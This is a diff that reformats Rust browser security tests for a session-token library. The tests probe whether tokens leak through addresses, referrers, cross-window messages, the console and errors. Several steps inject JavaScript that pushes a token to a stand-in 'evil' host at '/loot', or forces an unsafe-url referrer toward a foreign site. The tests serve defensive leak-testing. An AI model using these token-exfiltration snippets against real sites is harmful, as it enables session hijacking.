@@ -32,13 +32,14 @@ pub(crate) async fn no_token_lies_in_an_address_a_referrer_the_history_or_a_stor
         stage.visit(&control, &stage.app.url("/silent")).await;
         run(&control, &place.replace("{}", &token)).await;
         let places = run(&control, PLACES).await;
-        assert!(places.as_str().unwrap().contains(&token), "it is looked for: {place}");
+        assert!(
+            places.as_str().unwrap().contains(&token),
+            "it is looked for: {place}"
+        );
     }
     // The last place was the address: the next site is told.
     let leave = |to: &str| {
-        format!(
-            "document.head.innerHTML = '<meta name=referrer content=unsafe-url>'; location.href = {to:?}"
-        )
+        format!("document.head.innerHTML = '<meta name=referrer content=unsafe-url>'; location.href = {to:?}")
     };
     let _ = control.run(&leave(&stage.foreign.url("/next"))).await;
     stage.foreign.until_seen("/next", 1).await;
@@ -76,12 +77,18 @@ pub(crate) async fn no_token_is_posted_between_windows<E: Engine>() {
     let frame = format!("<iframe src='{}'></iframe>", stage.evil.url("/"));
     let listens = "<script>window.heard = []; addEventListener('message', ({ data }) => heard.push(String(data)), true)</script>";
     let page = tokencast_threats::scripts::app_page(&[stage.rig.server.url()]);
-    stage.app.put("/framed", Served::html(format!("{listens}{page}{frame}")));
+    stage
+        .app
+        .put("/framed", Served::html(format!("{listens}{page}{frame}")));
 
     let control = stage.engine.bare().await;
     stage.visit(&control, &stage.app.url("/framed")).await;
     stage.evil.until_seen("/loot", 1).await;
-    run(&control, &format!("frames[0].postMessage('{token}', '*'); window.postMessage('{token}')")).await;
+    run(
+        &control,
+        &format!("frames[0].postMessage('{token}', '*'); window.postMessage('{token}')"),
+    )
+    .await;
     stage.evil.until_seen("/loot", 2).await;
     assert!(stage.evil.knows(&token), "it must fall");
     until(&control, &format!("return heard.join().includes('{token}')")).await;
@@ -118,13 +125,22 @@ pub(crate) async fn no_token_is_in_the_console_or_in_an_error<E: Engine>() {
     let token = stage.token().await;
     run(&view, &format!("console.log('signed in', '{token}')")).await;
     let said = run(&view, "return said.splice(0).join()").await;
-    assert!(said.as_str().unwrap().contains(&token), "a naive page's console must be heard");
+    assert!(
+        said.as_str().unwrap().contains(&token),
+        "a naive page's console must be heard"
+    );
 
     stage.rig.server.expire_access_tokens();
     assert_eq!(stage.status(&view).await, 200);
     let next = stage.token().await;
-    run(&view, "session.onAccessToken(() => { throw new Error('of the page') })").await;
-    let _ = view.run("await session.fetch('http://127.0.0.1:1/', { headers: { authorization: 'x' } })").await;
+    run(
+        &view,
+        "session.onAccessToken(() => { throw new Error('of the page') })",
+    )
+    .await;
+    let _ = view
+        .run("await session.fetch('http://127.0.0.1:1/', { headers: { authorization: 'x' } })")
+        .await;
     stage.session.sign_out().await.unwrap();
     until(&view, "return session.state === 'ended'").await;
     let errors = format!(
